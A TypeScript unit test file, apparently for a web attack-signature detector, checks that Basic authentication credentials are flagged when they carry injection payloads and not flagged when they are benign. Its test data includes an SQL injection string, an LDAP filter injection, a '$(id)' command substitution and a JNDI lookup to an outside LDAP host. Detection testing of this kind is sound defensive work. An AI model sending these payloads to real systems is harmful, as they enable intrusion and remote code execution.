import { expect, test } from 'vitest';
import { findSignatures } from '../../../../src/attacks/find-signatures.ts';
import { linesOf } from '../leaves-in.ts';

const basic = (credentials: string): string => `Basic ${Buffer.from(credentials).toString('base64')}`;

function found(credentials: string): readonly string[] {
  const headers = { authorization: basic(credentials) };
  const request = { method: 'GET', path: '/', query: '', headers, contentType: '', body: '' };
  return findSignatures(request).matches.map(({ type, location }) => `${location} ${type}`);
}

test.each([
  ["admin' or '1'='1:x", 'sql_injection'],
  ['*)(uid=*))(|(uid=*:x', 'ldap_injection'],
  ['$(id):x', 'command_injection'],
  ['$'.concat('{jndi:ldap://192.0.2.1/a}:x'), 'jndi_lookup'],
])('an attack in place of an account is found: %s', (credentials, type) => {
  expect(found(credentials)).toEqual([`header.authorization.(account) ${type}`]);
});

test.each(['ann:x', "O'Brien:x", 'CORP\\ann:x', 'uid=ann,ou=people,dc=example,dc=org:x', ':x'])(
  'an account is no attack: %s',
  (credentials) => {
    expect(found(credentials)).toEqual([]);
  },
);

test('a secret is no leaf', () => {
  const lines = linesOf({ headers: { authorization: basic("ann@example.org:p' or 1=1") } });
  expect(lines.filter((line) => line.includes('1=1'))).toEqual([]);
  expect(lines).toContain('header.authorization.(account) header value ann@example.org');
});
